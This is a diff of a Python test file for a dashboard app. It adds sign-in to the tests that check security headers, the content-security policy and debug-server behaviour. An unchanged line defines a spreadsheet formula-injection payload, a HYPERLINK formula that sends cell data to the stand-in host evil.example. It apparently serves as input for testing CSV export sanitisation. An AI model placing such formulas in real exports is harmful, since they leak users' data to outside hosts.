@@ -28,6 +28,7 @@ from cxdash.exports.csv_safety import safe_cell
 from cxdash.sources import Location, SourceConfig, resolved_files
 
 from .serving import first_page, free_port
+from .signing import add_account, fill_sign_in_form, signed_in_client
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 SUM = "-2+3"
@@ -114,11 +115,12 @@ HEADERS = {"X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff", "Refe
 @pytest.fixture(scope="module")
 def dash_app(computed_sqlite, catalogue):
     from cxdash.dashboard.app import create_app
-    return create_app(computed_sqlite, catalogue)
+    add_account(computed_sqlite)
+    return create_app(computed_sqlite, catalogue)  # sign-in on, as by default
 
 
 def test_every_route_carries_the_security_headers(dash_app, caplog):
-    client = dash_app.server.test_client()
+    client = signed_in_client(dash_app)  # signed in; anonymous answers: tests/test_sign_in.py
     page = client.get("/")
     assert page.status_code == 200
     suite = next(line.split('src="')[1].split('"')[0] for line in page.text.splitlines()
@@ -146,7 +148,11 @@ def test_every_route_carries_the_security_headers(dash_app, caplog):
 @pytest.mark.browser
 def test_scorecard_renders_under_the_csp_without_violations(dash_duo, computed_sqlite, catalogue):
     from cxdash.dashboard.app import create_app
-    dash_duo.start_server(create_app(computed_sqlite, catalogue))
+    username, password = add_account(computed_sqlite)
+    dash_duo.start_server(create_app(computed_sqlite, catalogue), navigate=False)
+    # The sign-in page (no script of its own) and then the scorecard, both under the policy.
+    dash_duo.driver.get(dash_duo.server.url)
+    fill_sign_in_form(dash_duo.driver, username, password)
     dash_duo.wait_for_element("#card-vba-contact-trust", timeout=15)
     dash_duo.wait_for_element(".cx-sparkline .main-svg", timeout=15)  # Plotly drew the charts
     dash_duo.wait_for_contains_text("#scorecard-status-takeaway", "Of 10 measures in FY2023 Q1")
@@ -178,7 +184,8 @@ def test_debug_error_does_not_return_the_werkzeug_debugger(tmp_path):
     assert CliRunner().invoke(main, ["init", "--db", url]).exit_code == 0
     port = free_port()
     # its own process group: the development server's reloader runs the app in a child process
-    proc = subprocess.Popen([sys.executable, "-m", "cxdash.cli", "serve", "--debug", "--port", str(port), "--db", url],
+    proc = subprocess.Popen([sys.executable, "-m", "cxdash.cli", "serve", "--debug", "--no-sign-in", "--port", str(port),
+                             "--db", url],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
     try:
         status, _ = first_page(f"http://127.0.0.1:{port}/", proc, 90)
